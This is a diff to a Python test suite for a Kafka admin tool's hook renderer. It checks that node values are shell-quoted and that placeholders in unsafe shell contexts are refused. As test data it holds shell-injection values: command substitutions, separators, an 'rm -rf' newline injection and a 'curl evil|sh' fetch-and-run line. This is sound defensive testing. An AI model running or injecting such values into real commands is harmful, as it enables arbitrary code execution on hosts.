@@ -1,14 +1,22 @@
-"""The operator's commands a roll runs (kadmin/services/roll_hooks.py): placeholders, /bin/sh in a session of its
-own, the exit code, the output's last lines, the time bound (the whole process group killed) and the env."""
+"""The operator's commands a roll runs (kadmin/services/roll_hooks.py): placeholders quoted for the shell where
+they stand, /bin/sh in a session of its own, the exit code, the output's last lines, the time bound (the whole
+process group killed) and the env."""
 
 from __future__ import annotations
 
 import os
+import re
+import shutil
+import subprocess
 import sys
+import tempfile
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from kadmin.domain.roll import RollNode
 from kadmin.errors import ConfigError, UsageError
@@ -19,6 +27,14 @@ pytestmark = pytest.mark.timeout(60)
 
 BROKER = RollNode(3, "broker", "kafka-3.example", 9093, "rack-a")
 CONTROLLER = RollNode(3001, "controller")  # DescribeQuorum listed no endpoint: host and port unknown
+ODD = RollNode(4, "broker", "a b'c\"d$e`f\\g", 1, "r;s")
+
+
+def wait_for(fact: Callable[[], object], what: str, seconds: float = 10.0) -> None:
+    deadline = time.monotonic() + seconds
+    while not fact():
+        assert time.monotonic() < deadline, f"not within {seconds} s: {what}"
+        time.sleep(0.01)
 
 
 # ------------------------------------------------------------------------------------------------ render
@@ -26,17 +42,85 @@ CONTROLLER = RollNode(3001, "controller")  # DescribeQuorum listed no endpoint: 
     ("ssh {host} sudo systemctl restart kafka", BROKER, "ssh kafka-3.example sudo systemctl restart kafka"),
     ("stop {id} {host}:{port} rack={rack} role={role}", BROKER, "stop 3 kafka-3.example:9093 rack=rack-a role=broker"),
     ("{id}{id}", BROKER, "33"),
-    # other braces are the shell's: kept as they are
-    ("for i in {1..3}; do echo ${HOME} {x} {ID} {{id}}; done", BROKER,
-     "for i in {1..3}; do echo ${HOME} {x} {ID} {3}; done"),
+    # other braces are the shell's: kept as they are; {{ and }} are literal braces
+    ("for i in {1..3}; do echo ${HOME} {a,b} {} {{id}} {{x}}; done", BROKER,
+     "for i in {1..3}; do echo ${HOME} {a,b} {} {id} {x}; done"),
     ("awk '{print $1}' /etc/{role}s", BROKER, "awk '{print $1}' /etc/brokers"),
+    ("{ echo {id}; } && x=${x:-{ }", BROKER, "{ echo 3; } && x=${x:-{ }"),
+    ("${{id}}", BROKER, "${id}"),
     ("no placeholder at all", BROKER, "no placeholder at all"),
-    # an unknown rack is empty (allowed); a controller's id and role are always known
+    # an unknown rack is empty (allowed), and still one argument; a controller's id and role are always known
+    ("x --rack {rack}", RollNode(1, "broker", "h", 1), "x --rack ''"),
     ("x --rack '{rack}'", RollNode(1, "broker", "h", 1), "x --rack ''"),
-    ("kadmin sandbox kill {id} # {role} {rack}", CONTROLLER, "kadmin sandbox kill 3001 # controller "),
+    ("kadmin sandbox kill {id} # {role} {rack}", CONTROLLER, "kadmin sandbox kill 3001 # controller ''"),
+    # each value quoted for where it stands
+    ("x {host}", ODD, "x 'a b'\"'\"'c\"d$e`f\\g'"),
+    ("x '{host}'", ODD, "x 'a b'\\''c\"d$e`f\\g'"),
+    ('x "{host}"', ODD, 'x "a b\'c\\"d\\$e\\`f\\\\g"'),
+    ('x "$(y {rack} "{rack}")" \'{rack}\'', ODD, 'x "$(y \'r;s\' "r;s")" \'r;s\''),
+    ("x \\'{rack}", ODD, "x \\''r;s'"),  # \' outside quotes is no quote
+    ('x "\\"{rack}"', ODD, 'x "\\"r;s"'),
+    ("x # don't\ny {rack}", ODD, "x # don't\ny 'r;s'"),  # a comment's quote opens nothing
+    ("x a#{rack}", ODD, "x a#'r;s'"),  # a # inside a word is no comment
+    ("x # {host}\ny", RollNode(1, "broker", "a\nrm -rf x", 1), "x # 'a rm -rf x'\ny"),  # nor ends one
 ])
 def test_render(template: str, node: RollNode, command: str) -> None:
     assert hooks.render(template, node) == command
+
+
+def test_one_pass_a_value_is_never_substituted_again() -> None:
+    node = RollNode(5, "broker", "h{id}", 9092, "{host}")
+    assert hooks.render("x {rack} {host} {{rack}}", node) == "x '{host}' 'h{id}' {rack}"
+
+
+@pytest.mark.parametrize("name", ["hots", "ID", "x", "_", "rack2"])
+def test_an_unknown_placeholder_is_refused(name: str) -> None:
+    with pytest.raises(UsageError) as e:
+        hooks.render(f"echo {{{name}}} {{id}}", BROKER)
+    assert int(e.value.exit_code) == 2
+    assert e.value.message == (f"{{{name}}} is no placeholder (they are {{id}}, {{host}}, {{port}}, {{rack}} and "
+                               f"{{role}}): write {{{{{name}}}}} for a literal brace")
+
+
+@pytest.mark.parametrize(("template", "where"), [
+    ("echo `x {host}`", "inside backquotes (`...`)"),
+    ('echo "`x {id}`"', "inside backquotes (`...`)"),
+    ("echo `x \\{host}`", "inside backquotes (`...`)"),
+    ("echo ${x:-{host}}", "inside ${...}"),
+    ('echo "${x:-{host}}"', "inside ${...}"),
+    ("echo ${x:-'{host}'}", "inside ${...}"),
+    ("echo $(({port} + 1))", "inside $((...))"),
+    ('echo "$(( {port} ))"', "inside $((...))"),
+    ("echo $'{host}'", "inside $'...'"),
+    ("cat <<EOF\n{host}\nEOF", "after a here-document (<<)"),
+    ("cat <<'EOF'\nx\nEOF\necho {id}", "after a here-document (<<)"),
+    ("echo \\{host}", "right after a backslash"),
+    ('echo "\\{host}"', "right after a backslash"),
+    ("x=$(case a in a) echo;; esac) {host}", "after a case statement inside $(...)"),
+    ("echo \"${x:-'}'}\" {id}", "after a ' inside \"${...}\""),
+])
+def test_a_placeholder_where_no_quoting_is_reliable_is_refused(template: str, where: str) -> None:
+    with pytest.raises(UsageError) as e:
+        hooks.render(template, BROKER)
+    assert re.fullmatch(r"\{(\w+)\} stands (.*), where kadmin cannot quote it for the shell: move it out of there "
+                        r"\(or use \"\$KADMIN_ROLL_\w+\" there\)", e.value.message), e.value.message
+    assert f" stands {where}, " in e.value.message and int(e.value.exit_code) == 2
+
+
+@pytest.mark.parametrize("template", ["echo `date` {id}", "echo ${HOME:-x} {id}", "echo $((1+2)) {id}",
+                                      'echo "$(echo `date`)" {id}', "echo '`' {id}", "echo \\` {id}",
+                                      "echo $(echo a) {id}", "echo $(case a in (a) echo;; esac)"])
+def test_what_closes_before_a_placeholder_does_not_refuse_it(template: str) -> None:
+    assert hooks.render(template, BROKER).endswith(("3", "esac)"))
+
+
+@pytest.mark.parametrize(("template", "opened"), [("echo '{host}", "an unterminated '...'"),
+                                                  ('echo "{host}', 'an unterminated "..."'),
+                                                  ("echo $(x {host}", "an unterminated $(...)")])
+def test_an_unterminated_quote_with_a_placeholder_is_refused(template: str, opened: str) -> None:
+    with pytest.raises(UsageError, match=re.escape(f"{{host}} stands in {opened}")):
+        hooks.render(template, BROKER)
+    assert hooks.render("echo '", BROKER) == "echo '"  # none inside: the shell says what is wrong
 
 
 @pytest.mark.parametrize(("template", "missing"), [("ssh {host} stop", "host"), ("nc -z h {port}", "port"),
@@ -49,8 +133,19 @@ def test_an_unknown_host_or_port_is_a_configuration_error(template: str, missing
     assert "{" + missing + "}" in e.value.message and "--bootstrap-controller" in e.value.message
 
 
+def test_a_value_with_a_nul_byte_is_a_configuration_error() -> None:
+    node = RollNode(7, "broker", "h", 1, "a\0b")
+    assert hooks.render("x {host}", node) == "x h"
+    with pytest.raises(ConfigError) as e:
+        hooks.render("x {rack}", node)
+    assert e.value.code == "placeholder_invalid" and int(e.value.exit_code) == 3
+    assert e.value.message == "node 7 (broker): its rack holds a NUL byte, which no shell argument can hold"
+    with pytest.raises(ConfigError, match="KADMIN_ROLL_RACK"):
+        hooks.environment(node)
+
+
 def test_check_templates() -> None:
-    hooks.check_templates(Hooks(stop="a", start="b"))
+    hooks.check_templates(Hooks(stop="a {host}", start="b '{rack}'"))
     hooks.check_templates(Hooks(restart="a", only_if="true"))
     hooks.check_templates(Hooks())
     for kw, flag in [({"stop": ""}, "--stop"), ({"start": "  "}, "--start"), ({"restart": "\t"}, "--restart"),
@@ -58,6 +153,65 @@ def test_check_templates() -> None:
         with pytest.raises(UsageError, match=f"^{flag} is empty$") as e:
             hooks.check_templates(Hooks(**kw))
         assert int(e.value.exit_code) == 2
+    for kw, message in [({"stop": "x {hots}"}, "--stop: {hots} is no placeholder"),
+                        ({"only_if": "x `{id}`"}, "--only-if: {id} stands inside backquotes"),
+                        ({"restart": "x '{id}"}, "--restart: {id} stands in an unterminated '...'")]:
+        with pytest.raises(UsageError, match="^" + re.escape(message)):
+            hooks.check_templates(Hooks(**kw))
+    hooks.check_templates(Hooks(stop="ssh {host} stop"))  # no node: an unknown host is for the render to find
+
+
+def test_render_all() -> None:
+    ctl = RollNode(3001, "controller", "ctl-1", 9093)
+    out = hooks.render_all(Hooks(stop="stop {id}", start="start {host}", only_if="test {id} != 2"), [BROKER, ctl])
+    assert out == {(3, "stop"): "stop 3", (3, "start"): "start kafka-3.example", (3, "only_if"): "test 3 != 2",
+                   (3001, "stop"): "stop 3001", (3001, "start"): "start ctl-1", (3001, "only_if"): "test 3001 != 2"}
+    assert hooks.render_all(Hooks(), [BROKER]) == {}
+    with pytest.raises(ConfigError) as e:
+        hooks.render_all(Hooks(restart="x {id}", only_if="ping {host}"), [BROKER, CONTROLLER])
+    assert e.value.code == "placeholder_unknown"
+    assert e.value.message.startswith("node 3001 (controller): --only-if: its host is unknown (DescribeQuorum")
+    with pytest.raises(UsageError) as u:
+        hooks.render_all(Hooks(stop="x", start="x ${y:-{id}}"), [BROKER])
+    assert u.value.message.startswith("node 3 (broker): --start: {id} stands inside ${...}")
+
+
+# ------------------------------------------------------------------------------------------------ quoting, by a shell
+SENTINEL = Path(tempfile.gettempdir()) / f"kadmin-roll-hooks-pwned-{os.getpid()}"
+HOSTILE = [f"$(touch {SENTINEL})", f"`touch {SENTINEL}`", f";touch {SENTINEL};", f"';touch {SENTINEL};'",
+           f"\";touch {SENTINEL};\"", f"\ntouch {SENTINEL}\n", f"'\"$(touch {SENTINEL})\"'", f"|touch {SENTINEL}",
+           "x;curl evil|sh;", "{rack}", "{host}", "{{id}}", "\\", "'", '"', "$HOME", "*", "~", "-n", "%s%d"]
+VALUE = st.lists(st.one_of(st.sampled_from(HOSTILE), st.sampled_from(list("'\"$`\\;|&(){}\n\t #*?~<>!=%")),
+                           st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=6)),
+                 max_size=6).map("".join)
+# Each template and what it prints for (host, rack). `printf '%s\n' x{host}y`, not `echo`: dash's echo reads
+# backslashes. $( ) drops the trailing newlines of what it prints, as the shell does.
+TEMPLATES: list[tuple[str, Callable[[str, str], str]]] = [
+    ("printf '%s\\n' {host} {rack}", lambda h, r: f"{h}\n{r}\n"),
+    ("printf '%s\\n' '{host}' 'x{rack}y'", lambda h, r: f"{h}\nx{r}y\n"),
+    ("sh -c 'printf \"%s\\n\" \"$1\" \"$2\"' sh '{host}' '[{rack}]'", lambda h, r: f"{h}\n[{r}]\n"),
+    ('printf "%s\\n" "{host}" "<{rack}>"', lambda h, r: f"{h}\n<{r}>\n"),
+    ("printf '%s\\n' \"$(printf '%s' {host})\"", lambda h, r: h.rstrip("\n") + "\n"),
+    ("printf '%s\\n' \"$(printf '%s' \"$(printf '%s' '{rack}')\")\"", lambda h, r: r.rstrip("\n") + "\n"),
+    ("printf '%s\\n' x{host}y", lambda h, r: f"x{h}y\n"),
+    ("printf '%s\\n' {rack} # {host} don't", lambda h, r: f"{r}\n"),
+]
+SHELLS = ["/bin/sh", *(["bash"] if shutil.which("bash") else [])]  # bash is /bin/sh on some systems
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+@settings(max_examples=100, deadline=None)
+@given(host=VALUE.filter(bool), rack=VALUE)
+def test_a_rendered_hook_passes_each_value_as_it_is(shell: str, host: str, rack: str) -> None:
+    node = RollNode(1, "broker", host, 9092, rack)
+    script = "\n".join(hooks.render(t, node) for t, _ in TEMPLATES)
+    p = subprocess.run([shell, "-c", script], capture_output=True, timeout=20)
+    try:
+        assert p.returncode == 0, p.stderr
+        assert p.stdout.decode(errors="surrogateescape") == "".join(want(host, rack) for _, want in TEMPLATES)
+        assert not SENTINEL.exists(), f"{host!r} {rack!r} ran a command"
+    finally:
+        SENTINEL.unlink(missing_ok=True)
 
 
 # ------------------------------------------------------------------------------------------------ run
